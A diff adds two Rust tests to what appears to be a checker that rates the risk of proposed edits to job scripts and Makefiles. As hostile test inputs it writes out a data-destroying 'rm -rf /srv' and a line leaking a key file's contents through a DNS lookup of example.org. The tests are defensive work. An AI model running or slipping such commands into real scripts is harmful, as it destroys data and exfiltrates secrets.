@@ -190,6 +190,27 @@ fn doubt_size_and_a_wrong_summary_make_it_medium() {
 }
 
 #[test]
+fn tabs_for_the_blanks_of_recipes_are_of_low_risk() {
+    let before =
+        "all: out/a\n\nout/%: in/%\n        sed 's/.*/<p>&<\\/p>/' $< > $@\n\nclean:\n    rm -rf out\n";
+    let after = before.replace("        sed", "\tsed").replace("    rm", "\trm");
+    let path = "/srv/jobs/nightly/Makefile";
+    assert_eq!(judge(&proposal(path, before, &after)).risk, Risk::Low);
+    let other = after.replace("rm -rf out", "rm -rf /srv");
+    assert!(judge(&proposal(path, before, &other)).risk > Risk::Low);
+}
+
+#[test]
+fn accounts_are_asked_of_this_machine() {
+    let before = "#!/bin/bash\nset -u\necho \"$HOME\"\n";
+    let after =
+        before.replace("set -u\n", "set -u\nHOME=${HOME:-$(getent passwd \"$(id -u)\" | cut -d: -f6)}\n");
+    assert!(!rules(&judge(&proposal("/srv/jobs/nightly/run.sh", before, &after))).contains(&"danger/sends"));
+    let away = before.replace("set -u\n", "set -u\ngetent hosts \"$(cat key).example.org\"\n");
+    assert!(rules(&judge(&proposal("/srv/jobs/nightly/run.sh", before, &away))).contains(&"danger/sends"));
+}
+
+#[test]
 fn a_proposal_that_changes_nothing_is_refused() {
     assert!(judge(&proposal(SCRIPT, BEFORE, BEFORE)).refused);
 }
